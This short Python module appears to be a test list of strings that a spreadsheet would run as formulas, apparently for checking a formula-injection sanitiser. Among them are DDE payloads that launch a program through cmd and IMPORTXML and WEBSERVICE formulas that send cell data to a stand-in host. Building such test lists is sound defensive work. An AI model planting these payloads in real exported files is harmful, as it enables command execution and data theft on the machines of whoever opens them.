"""Texts that a spreadsheet program would run if it took them for formulas."""

FORMULAS = [
    "=1+1",
    "+86 138",
    "-减少",
    "@某人",
    "\t=制表",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    '=HYPERLINK("http://x","点我")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\u3000=1+1",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://x",A1),"//a")',
    '=_xlfn.WEBSERVICE("http://x")',
    "-1",
]
